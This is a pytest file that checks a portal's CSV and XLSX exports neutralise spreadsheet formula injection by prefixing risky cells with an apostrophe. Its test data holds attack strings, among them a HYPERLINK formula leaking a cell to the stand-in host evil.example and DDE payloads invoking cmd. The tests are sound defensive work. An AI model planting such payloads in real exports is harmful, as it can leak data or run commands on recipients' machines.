"""No export carries a live formula: every CSV and XLSX cell of text that begins with =, +, -, @, a
tab or a return is neutralised (OWASP's CSV injection guidance), and numbers stay numbers."""

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from portal.contracts.models import OutcomeType
from portal.contracts.rate_card_csv import export_rate_card
from portal.csv_files import append_safe_row, csv_text, spreadsheet_safe
from portal.extensions import db
from tests.factories import RateCardItemFactory, RateCardPriceFactory
from tests.returns.conftest import quarter  # noqa: F401 - the returns' worked example

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_would_run_as_a_formula_is_prefixed_with_an_apostrophe(attack):
    assert spreadsheet_safe(attack) == "'" + attack


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-720, "-720"),
        (Decimal("-7.20"), "-7.20"),
        ("-7.20", "-7.20"),
        ("+44", "+44"),
        ("12.5%", "12.5%"),
        (date(2026, 3, 3), "2026-03-03"),
        (None, ""),
        (True, "yes"),
        ("Housing - rent", "Housing - rent"),
    ],
)
def test_numbers_stay_numbers(value, written):
    assert spreadsheet_safe(value) == written


def test_a_csv_file_neutralises_every_cell_header_included():
    text = csv_text(["=name"], [["@SUM(1+1)", 5]], bom=True)
    assert text == "\ufeff'=name\n'@SUM(1+1),5\n"


def test_an_xlsx_cell_of_formula_text_is_text_not_a_formula():
    workbook = Workbook()
    append_safe_row(workbook.active, [ATTACKS[0], 42, "-7.20", "plain"])
    buffer = BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(BytesIO(buffer.getvalue())).active.iter_rows())
    assert [(cell.value, cell.data_type) for cell in cells] == [
        (ATTACKS[0], "s"),
        (42, "n"),
        ("-7.20", "s"),
        ("plain", "s"),
    ]
    assert cells[0].quotePrefix  # Excel shows it as typed text, and keeps it text when edited


def test_a_rate_card_item_named_as_a_formula_exports_harmlessly(nacro_contract):
    for number, attack in enumerate(ATTACKS[:4]):
        item = RateCardItemFactory(contract=nacro_contract, code=f"X{number}", service_code="X", name=attack)
        RateCardPriceFactory(item=item)
    db.session.commit()
    exported = export_rate_card(nacro_contract)
    for attack in ATTACKS[:4]:
        assert f"'{attack}" in exported.replace('""', '"')
    assert ",=" not in exported and ",+" not in exported and ",@" not in exported


def test_an_outcome_type_named_as_a_formula_is_text_in_the_dashboard_xlsx(portal, quarter, nacro_manager):  # noqa: F811
    housed = db.session.query(OutcomeType).filter_by(code="housed_on_release").one()
    housed.name = '=HYPERLINK("http://evil.example","Housed")'
    db.session.commit()
    portal.sign_in(nacro_manager)
    workbook = load_workbook(BytesIO(portal.get("/dashboard/figures.xlsx?period=2026-Q3").data))
    cells = [cell for row in workbook["Outcomes"].iter_rows() for cell in row if cell.value == housed.name]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for sheet in workbook for row in sheet.iter_rows() for cell in row), (
        "no cell of any sheet is a formula"
    )
    csv_text_out = portal.get("/dashboard/figures.csv?period=2026-Q3").get_data(as_text=True)
    assert ",=HYPERLINK" not in csv_text_out
